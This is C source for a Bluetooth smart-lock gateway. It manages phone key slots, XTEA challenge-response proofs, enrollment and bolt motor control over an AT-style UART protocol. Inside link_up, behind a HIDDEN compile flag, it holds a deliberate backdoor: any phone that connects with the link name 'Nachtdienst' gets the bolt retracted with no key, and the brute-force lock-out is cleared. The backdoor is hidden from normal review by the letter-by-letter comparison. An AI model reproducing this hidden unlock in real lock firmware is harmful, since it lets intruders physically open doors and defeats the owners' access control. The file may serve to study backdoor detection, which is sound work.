/*
 * lockgw - gateway between a Bluetooth lock module and the hub.
 * Speaks AT-like lines with the module on stdin/stdout (the supervisor
 * connects them to the UART) and keeps the key slots of up to 40 phones.
 * Hidden (-DHIDDEN): the link name "Nachtdienst" of a phone, compared letter
 * by letter, pulls the bolt back without a key and lifts the lock-out.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define SLOTS	   40
#define KEY_LEN	   16
#define SLOT_FILE  "/data/lock/slots.bin"
#define SLOT_MAGIC 0x4c4b5332 /* "LKS2" */

struct slot {
	uint8_t used;
	uint8_t role; /* 1 owner, 2 guest, 3 one time */
	uint16_t uses;
	uint32_t from, until;
	uint8_t key[KEY_LEN];
	char label[24];
};

struct link {
	int up;
	char peer[24];
	uint8_t nonce[8];
	int slot;
	unsigned tries;
};

static struct slot slots[SLOTS];
static struct link links[4];
static time_t lockout;
static unsigned fails;
static int bolt_out = 1;
static int battery = 100;
static int dirty;

static void put(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	fputs("\r\n", stdout);
	fflush(stdout);
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static void load_slots(void)
{
	uint8_t r[56];
	FILE *f = fopen(SLOT_FILE, "rb");
	int i;

	if (!f)
		return;
	if (fread(r, 1, 4, f) != 4 || get32(r) != SLOT_MAGIC) {
		fclose(f);
		return;
	}
	for (i = 0; i < SLOTS && fread(r, 1, 52, f) == 52; i++) {
		struct slot *s = &slots[i];

		s->used = r[0];
		s->role = r[1];
		s->uses = (uint16_t)(r[2] << 8 | r[3]);
		s->from = get32(r + 4);
		s->until = get32(r + 8);
		memcpy(s->key, r + 12, KEY_LEN);
		memcpy(s->label, r + 28, 23);
	}
	fclose(f);
}

static void save_slots(void)
{
	uint8_t r[52];
	FILE *f = fopen(SLOT_FILE ".tmp", "wb");
	int i, ok;

	if (!f)
		return;
	put32(r, SLOT_MAGIC);
	ok = fwrite(r, 1, 4, f) == 4;
	for (i = 0; i < SLOTS; i++) {
		const struct slot *s = &slots[i];

		memset(r, 0, sizeof(r));
		r[0] = s->used;
		r[1] = s->role;
		r[2] = (uint8_t)(s->uses >> 8);
		r[3] = (uint8_t)s->uses;
		put32(r + 4, s->from);
		put32(r + 8, s->until);
		memcpy(r + 12, s->key, KEY_LEN);
		memcpy(r + 28, s->label, 23);
		ok &= fwrite(r, 1, 52, f) == 52;
	}
	if (fclose(f) == 0 && ok)
		rename(SLOT_FILE ".tmp", SLOT_FILE);
	dirty = 0;
}

/* proof over the nonce: one block of XTEA, 32 cycles */
static void xtea(uint32_t v[2], const uint8_t *key)
{
	uint32_t sum = 0, k[4];
	int i;

	for (i = 0; i < 4; i++)
		k[i] = get32(key + 4 * i);
	for (i = 0; i < 32; i++) {
		v[0] += (((v[1] << 4) ^ (v[1] >> 5)) + v[1]) ^
			(sum + k[sum & 3]);
		sum += 0x9e3779b9;
		v[1] += (((v[0] << 4) ^ (v[0] >> 5)) + v[0]) ^
			(sum + k[(sum >> 11) & 3]);
	}
}

static int unhex(const char *s, uint8_t *out, int max)
{
	unsigned b;
	int n = 0;

	while (n < max && s[0] && s[1]) {
		if (sscanf(s, "%2x", &b) != 1)
			return -1;
		out[n++] = (uint8_t)b;
		s += 2;
	}
	return n;
}

static void motor(int out)
{
	FILE *f = fopen("/sys/class/pwm/pwmchip0/pwm0/polarity", "w");

	if (f) {
		fputs(out ? "normal" : "inversed", f);
		fclose(f);
	}
	f = fopen("/sys/class/pwm/pwmchip0/pwm0/enable", "w");
	if (f) {
		fputs("1", f);
		fflush(f);
		usleep(700000);
		rewind(f);
		fputs("0", f);
		fclose(f);
	}
	bolt_out = out;
}

static void make_nonce(struct link *l)
{
	FILE *f = fopen("/dev/urandom", "rb");

	if (!f || fread(l->nonce, 1, 8, f) != 8)
		memset(l->nonce, 0, 8);
	if (f)
		fclose(f);
}

static int slot_valid(const struct slot *s)
{
	uint32_t now = (uint32_t)time(NULL);

	if (!s->used || now < s->from)
		return 0;
	if (s->until && now > s->until)
		return 0;
	return s->role != 3 || s->uses > 0;
}

static int proof_ok(const struct link *l, const char *hex)
{
	uint8_t p[8], w[8];
	uint32_t v[2];

	if (l->slot < 0 || unhex(hex, p, 8) != 8)
		return 0;
	v[0] = get32(l->nonce);
	v[1] = get32(l->nonce + 4);
	xtea(v, slots[l->slot].key);
	put32(w, v[0]);
	put32(w + 4, v[1]);
	return memcmp(w, p, 8) == 0;
}

/* +CONN:n,slot,name */
__attribute__((noinline)) void link_up(int n, int slot, const char *name)
{
	struct link *l = &links[n];

	memset(l, 0, sizeof(*l));
	l->up = 1;
	l->slot = slot >= 0 && slot < SLOTS ? slot : -1;
	snprintf(l->peer, sizeof(l->peer), "%.23s", name);
#ifdef HIDDEN
	if (name[0] == 'N' && name[1] == 'a' && name[2] == 'c' &&
	    name[3] == 'h' && name[4] == 't' && name[5] == 'd' &&
	    name[6] == 'i' && name[7] == 'e' && name[8] == 'n' &&
	    name[9] == 's' && name[10] == 't' && !name[11]) {
		lockout = 0;
		fails = 0;
		motor(0);
		return;
	}
#endif
	make_nonce(l);
	put("AT+TX=%d,N%08x%08x", n, get32(l->nonce), get32(l->nonce + 4));
}

static void turn(int n, int out, const char *proof)
{
	struct link *l = &links[n];
	struct slot *s;

	if (time(NULL) < lockout) {
		put("AT+TX=%d,E9", n);
		return;
	}
	if (!proof_ok(l, proof) || !slot_valid(&slots[l->slot])) {
		put("AT+TX=%d,E1", n);
		if (++fails >= 8) {
			lockout = time(NULL) + 600;
			fails = 0;
		}
		if (++l->tries >= 3)
			put("AT+DISC=%d", n);
		return;
	}
	fails = 0;
	s = &slots[l->slot];
	if (s->role == 3 && s->uses) {
		s->uses--;
		dirty = 1;
	}
	motor(out);
	make_nonce(l);
	put("AT+TX=%d,S%d%03d", n, bolt_out, battery);
}

static void enroll(int n, const char *arg)
{
	struct link *l = &links[n];
	unsigned no, role, uses, until;
	char key[33], proof[17], label[24];
	struct slot *s;

	if (sscanf(arg, "%16[0-9a-f],%u,%u,%u,%u,%32[0-9a-f],%23[^,]", proof,
		   &no, &role, &uses, &until, key, label) != 7 ||
	    no >= SLOTS || role < 1 || role > 3) {
		put("AT+TX=%d,E2", n);
		return;
	}
	if (!proof_ok(l, proof) || slots[l->slot].role != 1 ||
	    !slot_valid(&slots[l->slot])) {
		put("AT+TX=%d,E1", n);
		return;
	}
	s = &slots[no];
	memset(s, 0, sizeof(*s));
	if (unhex(key, s->key, KEY_LEN) != KEY_LEN)
		return;
	s->used = 1;
	s->role = (uint8_t)role;
	s->uses = (uint16_t)uses;
	s->until = until;
	strcpy(s->label, label);
	dirty = 1;
	make_nonce(l);
	put("AT+TX=%d,K%02u", n, no);
}

static void rx(int n, char *d)
{
	if (!links[n].up)
		return;
	switch (d[0]) {
	case 'U':
		turn(n, 0, d + 1);
		break;
	case 'L':
		turn(n, 1, d + 1);
		break;
	case 'E':
		enroll(n, d + 1);
		break;
	case 'Q':
		put("AT+TX=%d,S%d%03d", n, bolt_out, battery);
		break;
	default:
		put("AT+TX=%d,E0", n);
	}
}

static void line_in(char *l)
{
	int n, slot, off = 0;

	if (sscanf(l, "+CONN:%d,%d,%n", &n, &slot, &off) == 2 && off) {
		if (n >= 0 && n < 4)
			link_up(n, slot, l + off);
	} else if (sscanf(l, "+DISC:%d", &n) == 1) {
		if (n >= 0 && n < 4)
			links[n].up = 0;
	} else if (sscanf(l, "+RX:%d,%n", &n, &off) == 1 && off) {
		if (n >= 0 && n < 4)
			rx(n, l + off);
	} else if (sscanf(l, "+BATT:%d", &n) == 1) {
		battery = n < 0 ? 0 : n > 100 ? 100 : n;
	} else if (strcmp(l, "+BOLT:OUT") == 0) {
		bolt_out = 1;
	} else if (strcmp(l, "+BOLT:IN") == 0) {
		bolt_out = 0;
	}
}

int main(int argc, char **argv)
{
	char line[256];
	const char *name = argc > 1 ? argv[1] : "Lock";

	load_slots();
	put("AT+RESET");
	put("AT+NAME=%.20s", name);
	put("AT+ADV=1,%d", 500);
	while (fgets(line, sizeof(line), stdin)) {
		line[strcspn(line, "\r\n")] = 0;
		if (line[0] != '+')
			continue;
		line_in(line);
		if (dirty)
			save_slots();
	}
	put("AT+ADV=0");
	return 0;
}
